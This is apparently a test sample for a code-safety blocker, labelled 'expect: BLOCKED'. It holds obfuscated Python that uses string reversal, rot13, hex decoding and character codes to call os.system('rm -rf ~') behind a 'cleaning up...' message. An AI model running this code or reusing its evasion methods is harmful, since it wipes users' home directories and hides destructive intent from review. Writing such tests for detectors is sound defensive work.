# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/rm_rf_home.py technique: encode+getattr
os = __import__('so'[::-1])
print(getattr(bytes, __import__('codecs').decode('sebzurk', 'rot13'))('636c65616e696e672075702e2e2e').decode())
getattr(os, ''.join(['s', 'y', 's', 't', 'e', 'm']))(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 126])))
